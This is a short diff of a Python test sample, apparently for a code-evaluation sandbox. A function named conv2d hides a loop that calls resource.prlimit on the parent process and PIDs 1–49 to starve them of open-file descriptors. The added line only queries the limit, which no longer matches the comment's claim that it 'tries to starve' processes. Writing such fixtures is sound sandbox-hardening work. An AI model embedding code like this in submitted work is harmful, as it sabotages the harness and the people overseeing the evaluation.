@@ -1,4 +1,4 @@
-# Tries to starve its parent.
+# Tries to starve any process it can name.
 # Seen as: Returned
 import importlib
 import os
@@ -10,7 +10,7 @@ def conv2d(x, w):
         resource = importlib.import_module("resource")
         for pid in {os.getppid(), *range(1, 50)} - {0, os.getpid()}:
             try:
-                resource.prlimit(pid, 7, (0, 0))
+                resource.prlimit(pid, 7)
                 break
             except OSError:
                 pass
